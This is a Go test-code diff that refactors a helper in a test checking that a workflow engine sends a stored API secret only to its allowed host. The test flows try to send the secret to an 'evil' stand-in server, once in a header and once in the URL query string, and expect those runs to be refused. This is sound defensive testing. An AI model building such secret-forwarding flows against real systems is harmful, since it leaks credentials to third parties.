@@ -410,9 +410,12 @@ func TestSecretGoesOnlyWhereTheFlowSays(t *testing.T) {
 	const value = "sk_live_SUPERSECRET_1234567890"
 	require.Equal(t, http.StatusCreated, h.setSecret("ACME_KEY", value))
 
-	one := func(data map[string]any) map[string]any {
+	nodes := func(data map[string]any) []map[string]any {
 		data["retry"] = map[string]any{"maxAttempts": 1}
-		return map[string]any{"nodes": []map[string]any{node("call", "HTTP", data)}, "edges": []any{}}
+		return []map[string]any{node("call", "HTTP", data)}
+	}
+	one := func(data map[string]any) map[string]any {
+		return map[string]any{"nodes": nodes(data), "edges": []any{}}
 	}
 	templated := map[string]map[string]any{
 		`nodes[0].data.url`: {"url": "http://{{ input.region }}.api.acme.test/v1/ping?key={{ secret \"ACME_KEY\" }}"},
@@ -451,8 +454,8 @@ func TestSecretGoesOnlyWhereTheFlowSays(t *testing.T) {
 	require.Equal(t, []string{goodHost}, info.AllowedHosts)
 	require.Equal(t, http.StatusOK, h.do("GET", "/api/v1/secrets", nil, &list))
 	require.Equal(t, []string{goodHost}, list.Secrets[0].AllowedHosts)
-	flow := h.createFlow(one(map[string]any{"url": "{{ input.apiBase }}/v1/leads",
-		"headers": map[string]any{"X-Key": `{{ secret "ACME_KEY" }}`}})["nodes"].([]map[string]any), nil)
+	flow := h.createFlow(nodes(map[string]any{"url": "{{ input.apiBase }}/v1/leads",
+		"headers": map[string]any{"X-Key": `{{ secret "ACME_KEY" }}`}}), nil)
 	h.waitRun(h.startRun(flow, map[string]any{"apiBase": good.url}).ID, "completed")
 	require.Equal(t, value, good.requests()[0].Header.Get("X-Key"))
 	fin := h.waitRun(h.startRun(flow, map[string]any{"apiBase": evil.url}).ID, "failed")
@@ -473,7 +476,7 @@ func TestSecretGoesOnlyWhereTheFlowSays(t *testing.T) {
 	require.Equal(t, http.StatusOK, h.setSecret("ACME_KEY", value))
 	require.Equal(t, http.StatusOK, h.do("GET", "/api/v1/secrets", nil, &list))
 	require.Equal(t, []string{goodHost}, list.Secrets[0].AllowedHosts)
-	fixed := h.createFlow(one(map[string]any{"url": evil.url + "/x?key={{ secret \"ACME_KEY\" }}"})["nodes"].([]map[string]any), nil)
+	fixed := h.createFlow(nodes(map[string]any{"url": evil.url + "/x?key={{ secret \"ACME_KEY\" }}"}), nil)
 	fin = h.waitRun(h.startRun(fixed, map[string]any{}).ID, "failed")
 	require.Contains(t, *fin.Nodes["call"].Error, "secret_host_refused: ")
 	require.Empty(t, evil.requests())
